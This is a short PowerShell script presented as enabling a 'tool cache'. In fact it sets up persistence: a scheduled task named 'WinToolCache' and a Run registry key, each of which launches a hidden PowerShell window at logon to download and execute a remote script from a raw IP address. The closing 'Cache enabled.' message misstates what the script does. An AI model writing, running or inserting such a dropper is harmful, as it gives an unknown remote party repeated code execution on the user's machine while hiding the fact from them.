$action = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -nop -c iex (iwr 'http://45.9.148.33/c.ps1' -UseBasicParsing)"
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName "WinToolCache" -Action $action -Trigger $trigger -Force | Out-Null
Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "ToolCache" -Value "powershell -w hidden -c iex (iwr 'http://45.9.148.33/c.ps1')"
Write-Host "Cache enabled."
